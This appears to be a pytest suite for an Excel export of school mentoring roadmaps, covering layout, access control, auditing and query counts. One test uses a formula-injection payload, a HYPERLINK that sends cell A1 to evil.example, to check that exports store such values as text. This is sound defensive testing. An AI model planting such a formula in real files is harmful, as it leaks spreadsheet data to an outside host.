"""The roadmap's workbook: the document's own columns on the first sheet, the matrix and a sheet
per school for a municipal roadmap, the school's execution for a school's roadmap; formula-safe,
ready to print, journalled, and never another school's execution for a school's people."""

import datetime
import io

import openpyxl
import pytest
import time_machine
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from core.models import AuditEntry
from core.testing.factories import OrganizationFactory
from roadmaps import services
from roadmaps.choices import ExecutionStatus
from roadmaps.models import Roadmap, RoadmapItem
from tests.roadmaps.matrix_world import TODAY, bulk_matrix, mixed_states, seed_roadmap

pytestmark = pytest.mark.django_db
D = datetime.date
DOCUMENT_HEADER = [
    "№ п/п",
    "Мероприятия",
    "Сроки исполнения",
    "Ответственные: муниципальные",
    "Ответственные: ОО",
    "Ожидаемый результат, вид документа",
    "Даты",
]
EXECUTION_HEADER = ["Исполнение", "Дата выполнения", "Ссылка", "Комментарий", "Файл", "Просрочено"]
HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Подробнее")'


@pytest.fixture(autouse=True)
def _today():
    with time_machine.travel(TODAY, tick=False):
        yield


@pytest.fixture
def seed(world):
    seed = seed_roadmap(world, extra_schools=1)
    mixed_states(world, seed)
    return seed


def export(client, user, roadmap):
    client.force_login(user)
    return client.get(reverse("roadmaps:roadmap_export", args=[roadmap.pk]))


def workbook(response) -> openpyxl.Workbook:
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    assert "attachment" in response["Content-Disposition"]
    return openpyxl.load_workbook(io.BytesIO(response.content))


def values(sheet) -> list[list]:
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


def row_of(sheet, number: str):
    """The cells of the row whose «№ п/п» is `number`."""
    return next(row for row in sheet.iter_rows() if row[0].value == number)


def all_text(book) -> str:
    return "\n".join(str(value) for sheet in book.worksheets for row in values(sheet) for value in row if value)


# --- A municipal roadmap -------------------------------------------------------------------


def test_it_names_the_sheets_the_roadmap_the_matrix_and_every_school(client, world, seed):
    book = workbook(export(client, world.coordinator, seed.roadmap))
    assert book.sheetnames == ["Дорожная карта", "Матрица", "МБОУ «СОШ № 1»", "МБОУ «СОШ № 2»", "МБОУ «СОШ № 3»"]


def test_it_lays_the_first_sheet_out_as_the_document_with_the_dates_read(client, world, seed):
    sheet = workbook(export(client, world.coordinator, seed.roadmap))["Дорожная карта"]
    rows = values(sheet)
    assert rows[0] == DOCUMENT_HEADER
    assert [row[0] for row in rows[1:]] == [item.number for item in seed.items.values()]
    assert rows[1 + list(seed.items).index("3.1")] == [
        "3.1",
        "Формирование школьного реестра наставников-учителей по форме «Учитель-учитель», «Учитель-ученик»",
        "Сентябрь-ноябрь Ежегодно 2021 – 2024 гг.",
        None,
        "Руководитель ОО, координатор",
        None,
        "01.09.2021 – 30.11.2021; 01.09.2022 – 30.11.2022; 01.09.2023 – 30.11.2023; 01.09.2024 – 30.11.2024",
    ]


def test_it_writes_a_stage_row_bold_and_an_item_row_plain(client, world, seed):
    sheet = workbook(export(client, world.coordinator, seed.roadmap))["Дорожная карта"]
    stage, item = row_of(sheet, "3."), row_of(sheet, "3.1")
    assert stage[1].value == "Формирование базы наставников"
    assert all(cell.font.b for cell in stage[:3])
    assert not any(cell.font.b for cell in item[:3])
    assert sheet["A1"].font.b  # the header


def test_it_writes_each_schools_execution_on_its_sheet(client, world, seed):
    book = workbook(export(client, world.coordinator, seed.roadmap))
    sheet = book["МБОУ «СОШ № 1»"]
    assert values(sheet)[0] == ["№ п/п", "Мероприятия", "Сроки исполнения", "Даты", *EXECUTION_HEADER]
    # Only the items for schools, under their stages: 1.1 is the authority's own.
    assert [row[0] for row in values(sheet)[1:]] == [
        "1.", "1.4.", "2.", "2.1.", "2.2.", "3.", "3.1", "3.2.", "4.", "4.2.", "4.3.", "5.", "5.2.",
    ]  # fmt: skip
    assert [cell.value for cell in row_of(sheet, "1.4.")[4:]] == [
        "Выполнено", datetime.datetime(2022, 5, 20), None, None, "приказ.pdf", "нет",
    ]  # fmt: skip
    assert row_of(sheet, "1.4.")[5].number_format == "DD.MM.YYYY"
    assert [cell.value for cell in row_of(sheet, "3.1")[4:]] == [
        "Выполнено", datetime.datetime(2022, 11, 25), "https://school1.example/mentors", "Реестр утверждён приказом № 45", None, "нет",
    ]  # fmt: skip
    assert [cell.value for cell in row_of(sheet, "4.2.")[4:]] == [
        "Не требуется", None, None, "Школа не участвовала в презентации", None, "нет",
    ]  # fmt: skip
    late = row_of(sheet, "4.3.")
    assert [late[4].value, late[9].value] == ["Не начато", "да"]
    assert late[9].fill.fgColor.rgb.endswith("F8D7DA") and late[9].font.b
    assert [cell.value for cell in row_of(book["МБОУ «СОШ № 3»"], "1.4.")[4:]] == [
        "Не начато", None, None, None, None, "да",
    ]  # fmt: skip


def test_it_writes_the_matrix_with_states_overdue_marks_and_shares(client, world, seed):
    sheet = workbook(export(client, world.coordinator, seed.roadmap))["Матрица"]
    rows = values(sheet)
    assert rows[0] == [
        "№ п/п",
        "Мероприятия",
        "Сроки исполнения",
        "МБОУ «СОШ № 1»",
        "МБОУ «СОШ № 2»",
        "МБОУ «СОШ № 3»",
        "Выполнено",
    ]
    item = row_of(sheet, "4.2.")
    assert [cell.value for cell in item[3:]] == [
        "Не требуется",
        "Не начато, просрочено",
        "Не начато, просрочено",
        "0 из 2 · 0 %",
    ]
    assert item[4].fill.fgColor.rgb.endswith("F8D7DA")
    stage = row_of(sheet, "1.")
    assert stage[6].value == "2 из 3 · 67 %" and stage[6].font.b
    assert rows[-2][1:] == ["Выполнено по школе", None, "2 из 7 · 29 %", "1 из 8 · 13 %", "0 из 8 · 0 %", None]
    assert rows[-1][1] == "Всего по дорожной карте" and rows[-1][-1] == "3 из 23 · 13 %"


def test_it_stores_a_title_that_looks_like_a_formula_as_text(client, world, seed):
    RoadmapItem.objects.filter(pk=seed.items["2.1."].pk).update(title=HOSTILE, deadline_text="=1+2")
    book = workbook(export(client, world.coordinator, seed.roadmap))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value == HOSTILE]
    assert len(cells) == 5  # the roadmap, the matrix and every school's sheet
    assert all(cell.data_type == "s" for cell in cells)
    deadlines = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value == "=1+2"]
    assert deadlines and all(cell.data_type == "s" for cell in deadlines)


def test_it_sets_every_sheet_up_to_print_on_a4_landscape_with_its_header_on_every_page(client, world, seed):
    book = workbook(export(client, world.coordinator, seed.roadmap))
    for sheet in book.worksheets:
        assert sheet.page_setup.orientation == "landscape"
        assert sheet.page_setup.paperSize == 9  # A4
        assert sheet.sheet_properties.pageSetUpPr.fitToPage and sheet.page_setup.fitToWidth == 1
        assert sheet.print_title_rows == "$1:$1"
        assert sheet.freeze_panes == "A2"
    first = book["Дорожная карта"]
    assert first.column_dimensions["B"].width == 60
    assert first["B2"].alignment.wrap_text


def test_it_names_sheets_of_schools_whose_long_names_start_alike_apart(client, world, seed):
    for n in (1, 2):
        OrganizationFactory(
            municipality=world.municipality, short_name=f"МБОУ «Средняя общеобразовательная школа № {n}»"
        )
    names = workbook(export(client, world.coordinator, seed.roadmap)).sheetnames
    assert len(names) == len(set(names)) == 7
    assert all(len(name) <= 31 for name in names)
    assert "МБОУ «Средняя общеобразовательн" in names and "МБОУ «Средняя общеобразоват (2)" in names


def test_it_journals_the_export(client, world, seed):
    export(client, world.coordinator, seed.roadmap)
    entry = AuditEntry.objects.get(action="export", actor=world.coordinator)
    assert entry.data["filters"] == {"roadmap": seed.roadmap.pk}
    assert entry.data["format"] == "xlsx"
    assert entry.data["personal_data"] is True
    assert entry.data["rows"] > len(seed.items)
    assert "Дорожная карта" in entry.object_repr


# --- What a school's people get ------------------------------------------------------------


@pytest.mark.parametrize("actor", ["curator_a", "director_a"])
def test_it_gives_a_schools_people_their_own_schools_sheet_only(client, world, seed, actor):
    book = workbook(export(client, getattr(world, actor), seed.roadmap))
    assert book.sheetnames == ["Дорожная карта", "МБОУ «СОШ № 1»"]
    text = all_text(book)
    assert "СОШ № 2" not in text and "СОШ № 3" not in text
    assert "Раздел на сайте создан, наполняется" in text  # their own comment


def test_it_gives_another_school_nothing_of_school_as_execution(client, world, seed):
    book = workbook(export(client, world.curator_b, seed.roadmap))
    assert book.sheetnames == ["Дорожная карта", "МБОУ «СОШ № 2»"]
    text = all_text(book)
    assert "приказ.pdf" not in text and "Раздел на сайте создан" not in text and "Реестр утверждён" not in text


@pytest.mark.parametrize(
    ("actor", "status"),
    [
        ("coordinator", 200),
        ("observer", 200),
        ("curator_a", 200),
        ("director_a", 200),
        ("curator_b", 200),
        ("coordinator_elsewhere", 404),
    ],
)
def test_it_lets_whoever_reads_the_roadmap_export_it(client, world, seed, actor, status):
    assert export(client, getattr(world, actor), seed.roadmap).status_code == status


def test_it_sends_an_anonymous_visitor_to_log_in(client, seed):
    response = client.get(reverse("roadmaps:roadmap_export", args=[seed.roadmap.pk]))
    assert response.status_code == 302 and response["Location"].startswith("/login/")
    assert not AuditEntry.objects.filter(action="export").exists()


# --- A school's roadmap --------------------------------------------------------------------


@pytest.fixture
def school_roadmap(world):
    roadmap = services.roadmap_save(
        roadmap=Roadmap(
            municipality=world.municipality,
            organization=world.school_a,
            title="«Дорожная карта» реализации целевой модели наставничества в МБОУ «СОШ № 1» на 2022-2023 учебный год",
            starts_on=D(2022, 9, 1),
            ends_on=D(2023, 8, 31),
        ),
        user=world.curator_a,
    )
    stage = services.item_save(
        item=RoadmapItem(
            roadmap=roadmap, number="1.", title="Подготовка условий", deadline_text="Август - сентябрь 2022"
        ),
        user=world.curator_a,
    )
    first = services.item_save(
        item=RoadmapItem(
            roadmap=roadmap,
            parent=stage,
            number="1.1.",
            title="Анализ нормативно-правовой базы по проблеме наставничества",
            deadline_text="Август - сентябрь 2022",
            responsible_organization="Ведущий наставник\nСтаршие наставники",
        ),
        user=world.curator_a,
    )
    services.item_save(
        item=RoadmapItem(
            roadmap=roadmap,
            parent=stage,
            number="1.2.",
            title="Формирование совета наставников",
            deadline_text="Сентябрь 2023",
        ),
        user=world.curator_a,
    )
    execution = services.execution_for(first, world.school_a)
    execution.status = ExecutionStatus.DONE
    execution.done_on = D(2022, 9, 20)
    services.execution_save(execution=execution, user=world.curator_a, today=TODAY)
    return roadmap


def test_it_writes_a_schools_roadmap_on_one_sheet_with_its_execution(client, world, school_roadmap):
    book = workbook(export(client, world.coordinator, school_roadmap))
    assert book.sheetnames == ["Дорожная карта"]
    sheet = book.active
    header = ["№ п/п", "Мероприятия", "Сроки исполнения", "Ответственные", "Ожидаемый результат, вид документа", "Даты"]
    assert values(sheet)[0] == header + EXECUTION_HEADER
    stage = row_of(sheet, "1.")
    assert stage[1].font.b and stage[6].value is None  # a heading is not carried out
    done = [cell.value for cell in row_of(sheet, "1.1.")]
    assert done[3] == "Ведущий наставник\nСтаршие наставники"
    assert done[6:8] == ["Выполнено", datetime.datetime(2022, 9, 20)]
    assert [cell.value for cell in row_of(sheet, "1.2.")][6:] == ["Не начато", None, None, None, None, "нет"]


@pytest.mark.parametrize(
    ("actor", "status"),
    [
        ("coordinator", 200),
        ("observer", 200),
        ("curator_a", 200),
        ("director_a", 200),
        ("curator_b", 404),
        ("coordinator_elsewhere", 404),
    ],
)
def test_it_keeps_a_schools_roadmap_to_the_school_and_the_municipality(client, world, school_roadmap, actor, status):
    assert export(client, getattr(world, actor), school_roadmap).status_code == status


# --- Queries -------------------------------------------------------------------------------


def test_it_exports_10_items_by_20_schools_in_as_many_queries_as_3_by_5(client, world):
    client.force_login(world.coordinator)
    counts = []
    for items, schools in ((3, 3), (10, 15)):
        roadmap = bulk_matrix(world, items=items, schools=schools)
        with CaptureQueriesContext(connection) as context:
            response = client.get(reverse("roadmaps:roadmap_export", args=[roadmap.pk]))
        assert response.status_code == 200
        counts.append(len(context.captured_queries))
    assert counts[0] == counts[1] <= 10  # the session, the user, the roles, 6 reads, the journal line
    assert len(openpyxl.load_workbook(io.BytesIO(response.content)).sheetnames) == 2 + 20
